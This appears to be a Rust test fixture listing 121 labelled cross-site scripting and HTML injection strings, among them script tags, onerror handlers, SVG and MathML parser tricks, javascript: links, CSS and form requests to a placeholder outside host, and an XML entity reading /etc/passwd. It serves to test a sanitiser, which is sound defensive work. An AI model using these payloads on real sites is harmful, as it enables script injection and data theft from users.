//! Text that is a page to whoever takes it for one: elements, handlers, pictures that are programs, links that run.
//! `hit` is what a test looks for afterwards.

/// What each tries, and the text.
pub(super) const TEXTS: [(&str, &str); 121] = [
    ("a script", "<script>window.hit=1</script>"),
    ("a script in capitals", "<ScRiPt>hit=1</sCrIpT>"),
    (
        "a script of elsewhere",
        "<script src=//{ELSEWHERE}/a.js></script>",
    ),
    ("a module", "<script type=module>hit=1</script>"),
    ("a script that does not end", "<script>hit=1//"),
    ("a script after a comment", "<!--><script>hit=1</script>-->"),
    (
        "a script with a line's end in its name",
        "<script\n>hit=1</script\n>",
    ),
    (
        "a script with a slash in its name",
        "<script/x>hit=1</script>",
    ),
    (
        "a script in a script",
        "<scr<script>ipt>hit=1</scr</script>ipt>",
    ),
    ("a script as data", "<script src=data:,hit=1></script>"),
    ("a script after a title", "</title><script>hit=1</script>"),
    (
        "a script after a text field",
        "</textarea><script>hit=1</script>",
    ),
    ("a script after a style", "</style><script>hit=1</script>"),
    (
        "a script after a template",
        "</template><script>hit=1</script>",
    ),
    ("a script after an attribute", "\"><script>hit=1</script>"),
    (
        "a script after a quoted attribute",
        "'><script>hit=1</script>",
    ),
    ("a handler after an attribute", "\" onmouseover=\"hit=1"),
    (
        "a handler after a quoted attribute",
        "' onfocus='hit=1' autofocus='",
    ),
    ("a handler without quotes", "x onerror=hit=1 "),
    ("a handler with grave accents", "`onmouseover=hit=1`"),
    ("a picture that fails", "<img src=x onerror=hit=1>"),
    (
        "a picture that fails, closed",
        "<img src=\"x\" onerror=\"hit=1\"/>",
    ),
    ("a picture that comes", "<img src=//{ELSEWHERE}/seen.png>"),
    (
        "a picture from elsewhere, large and small",
        "<img srcset='//{ELSEWHERE}/a 1x'>",
    ),
    ("a picture without spaces", "<img/src=x/onerror=hit=1>"),
    ("a picture with tabs", "<img\tsrc=x\tonerror=hit=1>"),
    (
        "a picture with a form feed",
        "<img\u{c}src=x\u{c}onerror=hit=1>",
    ),
    ("a picture that does not end", "<img src=x onerror=hit=1 "),
    ("a picture by another name", "<image src=x onerror=hit=1>"),
    ("a picture of a link", "<img src=javascript:hit=1>"),
    (
        "a picture in a picture",
        "<picture><source srcset=//{ELSEWHERE}/p><img></picture>",
    ),
    ("a drawing that loads", "<svg onload=hit=1>"),
    (
        "a drawing that loads, without a space",
        "<svg/onload=hit=1>",
    ),
    (
        "a drawing with a script",
        "<svg><script>hit=1</script></svg>",
    ),
    (
        "a drawing with a script of elsewhere",
        "<svg><script href=//{ELSEWHERE}/a></svg>",
    ),
    (
        "a drawing that moves",
        "<svg><animate onbegin=hit=1 attributeName=x>",
    ),
    (
        "a drawing that sets",
        "<svg><set onbegin=hit=1 attributeName=x>",
    ),
    (
        "a drawing with a link",
        "<svg><a xlink:href='javascript:hit=1'><text>x",
    ),
    (
        "a drawing with a picture",
        "<svg><image href=//{ELSEWHERE}/i.png>",
    ),
    (
        "a drawing that is used",
        "<svg><use href=//{ELSEWHERE}/u.svg#x>",
    ),
    (
        "a drawing with a page in it",
        "<svg><foreignObject><body onload=hit=1>",
    ),
    (
        "a drawing that hides its script",
        "<svg><style><img src=x onerror=hit=1>",
    ),
    (
        "a drawing with a title",
        "<svg><title><img src=x onerror=hit=1>",
    ),
    (
        "a drawing that ends a paragraph",
        "<svg></p><style><a id='</style><img src=x onerror=hit=1>'>",
    ),
    (
        "a formula with a link",
        "<math href=javascript:hit=1>x</math>",
    ),
    (
        "a formula that hides",
        "<math><mtext><table><mglyph><style><img src=x onerror=hit=1>",
    ),
    (
        "a formula with an annotation",
        "<math><annotation-xml encoding=text/html><script>hit=1",
    ),
    (
        "a frame with a page in it",
        "<iframe srcdoc='<script>parent.hit=1</script>'>",
    ),
    ("a frame of a link", "<iframe src=javascript:parent.hit=1>"),
    (
        "a frame of elsewhere",
        "<iframe src=//{ELSEWHERE}/frame></iframe>",
    ),
    ("a frame that loads", "<iframe onload=hit=1>"),
    (
        "a frame of data",
        "<iframe src='data:text/html,<script>parent.hit=1</script>'>",
    ),
    (
        "a frame around the page",
        "</p></div><iframe srcdoc='<b>x'></iframe>",
    ),
    (
        "a set of frames",
        "<frameset onload=hit=1><frame src=//{ELSEWHERE}/f>",
    ),
    ("an object", "<object data=//{ELSEWHERE}/o.swf></object>"),
    ("an object of a link", "<object data=javascript:hit=1>"),
    ("an embedded thing", "<embed src=//{ELSEWHERE}/e.svg>"),
    ("an embedded link", "<embed src=javascript:hit=1>"),
    ("an applet", "<applet code=x archive=//{ELSEWHERE}/a.jar>"),
    ("a film that fails", "<video><source onerror=hit=1></video>"),
    (
        "a film from elsewhere",
        "<video src=//{ELSEWHERE}/v.mp4 autoplay>",
    ),
    (
        "a film's picture",
        "<video poster=//{ELSEWHERE}/poster.png></video>",
    ),
    ("a sound that fails", "<audio src=x onerror=hit=1>"),
    ("a track", "<video><track src=//{ELSEWHERE}/t.vtt default>"),
    ("a page that loads", "<body onload=hit=1>"),
    (
        "a page that scrolls",
        "<body onscroll=hit=1><br><input autofocus>",
    ),
    (
        "a page's background",
        "<body background=//{ELSEWHERE}/bg.png>",
    ),
    (
        "a table's background",
        "<table background=//{ELSEWHERE}/t.png><tr><td>x",
    ),
    ("a style for everything", "<style>*{display:none}</style>"),
    (
        "a style that fetches",
        "<style>@import '//{ELSEWHERE}/s.css';</style>",
    ),
    (
        "a style that tells",
        "<style>*{background:url(//{ELSEWHERE}/c)}</style>",
    ),
    (
        "a style in an attribute",
        "<p style='position:fixed;inset:0;background:red'>x",
    ),
    ("a style of old", "<p style='width:expression(hit=1)'>"),
    (
        "a style with a binding",
        "<p style='-moz-binding:url(//{ELSEWHERE}/b.xml)'>",
    ),
    (
        "a style sheet",
        "<link rel=stylesheet href=//{ELSEWHERE}/l.css>",
    ),
    (
        "a link that is fetched before",
        "<link rel=preload as=script href=//{ELSEWHERE}/p.js>",
    ),
    (
        "a name that is looked up before",
        "<link rel=dns-prefetch href=//{ELSEWHERE}>",
    ),
    (
        "a manifest",
        "<link rel=manifest href=//{ELSEWHERE}/m.json>",
    ),
    ("an import", "<link rel=import href=//{ELSEWHERE}/i.html>"),
    (
        "another address for all links",
        "<base href=//{ELSEWHERE}/>",
    ),
    (
        "a page that goes elsewhere",
        "<meta http-equiv=refresh content='0;url=//{ELSEWHERE}/m'>",
    ),
    (
        "a page that goes to a link",
        "<meta http-equiv=refresh content='0;javascript:hit=1'>",
    ),
    (
        "another policy",
        "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    ),
    (
        "another encoding",
        "<meta charset=utf-7>+ADw-script+AD4-hit=1+ADw-/script+AD4-",
    ),
    ("a cookie", "<meta http-equiv=Set-Cookie content='a=b'>"),
    (
        "a form",
        "<form action=//{ELSEWHERE}/form><input name=password></form>",
    ),
    (
        "a form of a link",
        "<form action=javascript:hit=1><button>OK</button></form>",
    ),
    (
        "a button of another form",
        "<button formaction=javascript:hit=1>OK</button>",
    ),
    (
        "a field that takes the focus",
        "<input autofocus onfocus=hit=1>",
    ),
    (
        "a field that loses it",
        "<input onblur=hit=1 autofocus><input autofocus>",
    ),
    (
        "a picture that is a button",
        "<input type=image src=x onerror=hit=1>",
    ),
    (
        "a hidden field with a key",
        "<input type=hidden accesskey=X onclick=hit=1>",
    ),
    (
        "a list that takes the focus",
        "<select autofocus onfocus=hit=1>",
    ),
    (
        "a text field that takes the focus",
        "<textarea autofocus onfocus=hit=1>",
    ),
    ("a key field", "<keygen autofocus onfocus=hit=1>"),
    ("details that open", "<details open ontoggle=hit=1>"),
    ("a text that runs", "<marquee onstart=hit=1>x</marquee>"),
    (
        "something that moves by itself",
        "<x style=animation-name:a onanimationstart=hit=1>",
    ),
    (
        "something that can be edited",
        "<x contenteditable onbeforeinput=hit=1>x",
    ),
    (
        "something with a pointer",
        "<b onpointerrawupdate=hit=1>over here</b>",
    ),
    (
        "something of our own name",
        "<div id=app></div><div data-testid=queue-row>",
    ),
    (
        "names that hide the page's",
        "<a id=document><a id=document name=body>",
    ),
    (
        "a form that hides names",
        "<form id=window><input name=hit value=1>",
    ),
    (
        "a dialog",
        "<dialog open><h2>Your password</h2><input></dialog>",
    ),
    (
        "something that pops up",
        "<button popovertarget=x>x</button><b popover id=x onbeforetoggle=hit=1>",
    ),
    (
        "a shadow",
        "<div><template shadowrootmode=open><script>hit=1</script></template></div>",
    ),
    ("a slot", "<slot onslotchange=hit=1></slot>"),
    (
        "an element of one's own",
        "<x-y is=z onconnected=hit=1></x-y>",
    ),
    ("everything after it as text", "<plaintext>"),
    (
        "everything after it as a sample",
        "<xmp><script>hit=1</script>",
    ),
    (
        "everything after it as a comment",
        "<!-- all of this is gone",
    ),
    (
        "everything after it as no script",
        "<noscript><p title=\"</noscript><img src=x onerror=hit=1>\">",
    ),
    ("an instruction", "<?xml version=1.0?><?php hit(); ?>"),
    (
        "a section of characters",
        "<![CDATA[<script>hit=1</script>]]>",
    ),
    (
        "a kind of document",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    ),
    (
        "a condition of old",
        "<!--[if gte IE 4]><script>hit=1</script><![endif]-->",
    ),
    ("a link that runs", "[x](javascript:window.hit=1)"),
    ("a picture of Markdown", "![x](//{ELSEWHERE}/md.png)"),
    ("a page in Markdown", "```html\n<script>hit=1</script>\n```"),
    (
        "a link of Markdown with a title",
        "[a](http://{ELSEWHERE}/ \"onclick=hit=1\")",
    ),
    (
        "an address that is a link",
        "http://{ELSEWHERE}/?a=<script>hit=1</script>",
    ),
];
